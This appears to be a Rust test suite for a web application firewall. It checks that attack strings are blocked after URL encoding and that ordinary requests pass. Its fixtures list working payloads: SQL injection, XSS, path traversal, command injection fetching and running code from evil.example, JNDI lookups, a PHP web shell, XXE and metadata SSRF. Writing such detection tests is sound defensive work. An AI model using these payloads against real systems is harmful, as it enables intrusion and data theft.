use super::*;
use crate::config::Exclusion;
use proptest::prelude::*;
use std::sync::OnceLock;

/// Compiled once: that takes longer than what it is used for.
fn waf(level: u8) -> &'static Arc<Waf> {
    static LEVELS: [OnceLock<Arc<Waf>>; 4] = [const { OnceLock::new() }; 4];
    let compile = || Arc::new(Waf::new(WafConfig { level, ..WafConfig::default() }, &[]).unwrap());
    LEVELS[usize::from(level) - 1].get_or_init(compile)
}

/// The query of a request, judged.
fn query(waf: &Arc<Waf>, query: &str) -> Verdict {
    let mut inspection = waf.inspect("/search");
    inspection.query(query);
    inspection.finish()
}

fn encoded(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02X}")).collect()
}

#[test]
fn attacks_are_found_in_any_dress() {
    let waf = waf(1);
    for attack in [
        "1' OR '1'='1",
        "1 UNION/**/ALL/**/SELECT username,password FROM users",
        "x'; DROP TABLE users; --",
        "1 AND SLEEP(5)",
        "' or 1=1 --",
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "\"><svg/onload=alert(1)>",
        "javascript&colon;alert(1)",
        "../../../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "; cat /etc/passwd",
        "| c\\at${IFS}/etc/passwd",
        "$(curl http://evil.example/x|sh)",
        "() { :; }; /bin/bash -c id",
        "${jndi:ldap://evil.example/a}",
        "${${lower:j}ndi:${lower:l}dap://evil.example/a}",
        "{{7*7}}",
        "<?php system($_GET['c']); ?>",
        "O:8:\"Evil\":1:{}",
        "php://filter/convert.base64-encode/resource=index.php",
        "http://169.254.169.254/latest/meta-data/",
        "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>",
        "__import__('os').system('id')",
        "a\r\nSet-Cookie: admin=1",
        "*)(uid=*))(|(uid=*",
    ] {
        for dressed in [encoded(attack), encoded(&encoded(attack))] {
            let verdict = query(waf, &format!("q={dressed}"));
            assert!(verdict.block, "{attack}: {verdict:?}");
        }
    }
}

#[test]
fn ordinary_requests_pass() {
    let waf = waf(1);
    for text in [
        "O'Reilly & Sons",
        "select the best option from the list",
        "Tom and Jerry; or the cat",
        "10 < 20 and 30 > 20",
        "https://shop.example/a/b?c=d&e=f",
        "C++ / C# in 21 days (2nd ed.)",
        "name@mail.example",
        "where to go in 2026? union square or downtown",
        "rock & roll | jazz",
        "It's 5 o'clock -- time to go",
        "a=b; c=d",
        "{\"json\": \"in a parameter\", \"n\": [1,2]}",
        "The script of the film",
        "drop me a line; I'll update you",
        "100% cotton #1",
        "foo/../bar".trim_start_matches("foo/../"),
        "Ünïcödé ☃ text",
        "2026-11-21T12:00:00+01:00",
        "cats and dogs like fish",
    ] {
        let verdict = query(waf, &format!("q={}", encoded(text)));
        assert!(!verdict.attack, "{text}: {verdict:?}");
    }
    let mut inspection = waf.inspect("/shop/items/42.html");
    inspection.header("user-agent", "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0");
    inspection.header("referer", "https://shop.example/search?q=green+shoes&size=42");
    inspection.header("cookie", "session=3f8a9c0e; theme=dark; _ga=GA1.2.1234.5678");
    inspection.header("x-forwarded-for", "192.0.2.1, 10.0.0.1");
    assert_eq!(inspection.finish().score, 0);
}

#[test]
fn bodies_are_taken_apart() {
    let waf = waf(1);
    let body = |kind: &str, bytes: &[u8]| {
        let mut inspection = waf.inspect("/");
        inspection.body(kind, bytes, true);
        inspection.finish()
    };
    assert!(body("application/x-www-form-urlencoded", b"a=1&b=%3Cscript%3Ealert(1)").block);
    assert!(
        body("application/json; charset=utf-8", br#"{"a":{"b":["x","<script>alert(1)</script>"]}}"#).block
    );
    assert!(body("application/json", br#"{"$where":"this.a == 1"}"#).block);
    assert!(body("text/xml", b"<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>").block);
    let upload = b"--x\r\nContent-Disposition: form-data; name=\"f\"; filename=\"shell.php\"\r\n\r\nGIF89a\r\n--x--\r\n";
    let verdict = body("multipart/form-data; boundary=x", upload);
    assert_eq!(verdict.matches[0].rule, "upload-program");
    assert!(
        !body("application/json", br#"{"title":"A cat, a dog & a bird","n":12.5,"ok":true,"no":null}"#)
            .attack
    );
    assert!(!body("image/png", b"\x89PNG <script>").attack, "no program reads a picture as text");
    assert_eq!(body("application/json", b"{\"a\":").matches[0].rule, BROKEN_BODY);
    let deep = "[".repeat(100_000);
    assert!(body("application/json", deep.as_bytes()).score > 0, "deep JSON is no reason to fall over");
}

#[test]
fn levels_exclusions_and_modes_are_heeded() {
    assert!(!query(waf(1), "q=%3Cb%3Ebold%3C/b%3E").attack);
    assert_eq!(query(waf(2), "q=%3Cb%3Ebold%3C/b%3E").score, 3);
    let exclude =
        vec![Exclusion { path: "/sea*".into(), rules: vec!["script-*".into()], names: vec!["html".into()] }];
    let config = WafConfig { exclude, mode: Mode::Detect, ..WafConfig::default() };
    let waf = &Arc::new(Waf::new(config, &[]).unwrap());
    assert!(!query(waf, "html=%3Cscript%3Ealert(1)").attack);
    let verdict = query(waf, "other=%3Cscript%3Ealert(1)");
    assert!(verdict.attack && !verdict.block);
}

#[test]
fn own_rules_are_added_and_checked() {
    let rule = |text: &str| Waf::new(WafConfig::default(), &[("own.toml".into(), text.into())]);
    let own = rule(
        "[[rule]]\nid = \"no-cats\"\nsay = \"a cat\"\nwhere = [\"parameter\"]\nmatch = ['\\bmeow\\b']\n",
    )
    .unwrap();
    assert_eq!(query(&Arc::new(own), "q=meow+meow").matches[0].rule, "no-cats");
    for (text, word) in [
        ("[[rule]]\nid = \"x\"\nsay = \"x\"\nmatch = ['(']", "own.toml"),
        ("[[rule]]\nid = \"x\"\nsay = \"x\"\nmatch = ['(?=x)']", "look-around"),
        ("[[rule]]\nid = \"sql-union\"\nsay = \"x\"\nmatch = ['x']", "two rules"),
        ("[[rule]]\nid = \"x\"\nsay = \"x\"\nmach = ['x']", "mach"),
    ] {
        let error = rule(text).unwrap_err().to_string();
        assert!(error.contains(word), "{error}");
    }
}

#[test]
fn findings_keep_secrets_and_lines() {
    let waf = waf(1);
    let verdict = query(waf, "password=%27+or+1%3D1+--+hunter2&q=%0d%0aSet-Cookie:+a%3Db");
    let all = serde_json::to_string(&verdict.matches).unwrap();
    assert!(verdict.attack && !all.contains("hunter2"), "{all}");
    assert!(!all.contains('\n'));
}

#[test]
fn floods_of_values_are_bounded() {
    let waf = waf(1);
    let many = "a=1&".repeat(200_000);
    assert_eq!(query(waf, &many).matches[0].rule, TOO_MANY);
    let long = format!("q={}", "<".repeat(1 << 20));
    query(waf, &long);
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn whatever_comes_is_judged(path in "/.{0,60}", text in ".{0,200}", bytes in proptest::collection::vec(any::<u8>(), 0..300)) {
        let waf = waf(4);
        let mut inspection = waf.inspect(&path);
        inspection.query(&text);
        inspection.header("cookie", &text);
        inspection.header("x-any", &text);
        for kind in ["application/json", "multipart/form-data; boundary=a", "text/xml", ""] {
            inspection.body(kind, &bytes, true);
        }
        inspection.finish();
    }
}
